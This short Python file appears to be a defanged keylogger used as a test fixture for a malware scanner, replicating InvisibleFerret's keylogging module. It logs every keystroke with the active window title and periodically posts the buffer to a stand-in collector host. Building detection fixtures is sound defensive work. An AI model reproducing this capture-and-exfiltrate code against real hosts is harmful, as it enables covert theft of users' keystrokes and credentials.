# Defanged replica of a Python keylogger (InvisibleFerret's mlip module and
# the public pynput loggers): every key is logged with the title of the
# window it went to, and the log is posted to a collector. The collector is a
# .invalid host, so nothing can leave.
import threading

import requests
import win32gui
from pynput import keyboard  # expect: HS235 high

COLLECTOR = "https://collect.example.invalid/k"
buffer = []


def active_window():
    return win32gui.GetWindowText(win32gui.GetForegroundWindow())


def on_press(key):
    buffer.append(f"[{active_window()}] {key}")


def flush():
    if buffer:
        requests.post(COLLECTOR, data={"k": "\n".join(buffer)}, timeout=5)
        buffer.clear()
    threading.Timer(60, flush).start()


def main():
    flush()
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()
